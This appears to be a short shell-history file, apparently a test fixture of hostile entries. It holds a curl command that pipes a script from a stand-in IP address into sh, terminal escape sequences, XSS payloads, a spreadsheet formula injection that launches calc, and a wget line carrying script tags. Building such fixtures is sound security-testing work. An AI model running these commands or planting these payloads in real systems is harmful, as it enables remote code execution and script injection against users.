#1710008400
curl -s http://203.0.113.66/x.sh | sh
#1710008401
echo '[2J[H]0;pwned31m'
#1710008402
echo '<script>alert(1)</script></style><b>x</b>"><img src=x onerror=alert(2)>'
#1710008403
=cmd|' /C calc'!A0
#1710008404
wget http://203.0.113.66/</script><script>alert(3)</script>
